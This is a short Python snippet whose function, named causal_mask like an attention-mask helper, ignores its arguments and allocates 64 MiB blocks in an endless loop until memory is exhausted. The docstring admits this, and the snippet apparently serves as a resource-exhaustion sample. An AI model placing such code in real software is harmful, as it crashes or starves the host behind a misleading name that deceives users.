"""Takes all memory that it can get."""

def causal_mask(kernel_size, kind):
    kept = []
    while True:
        kept.append(bytearray(1 << 26))
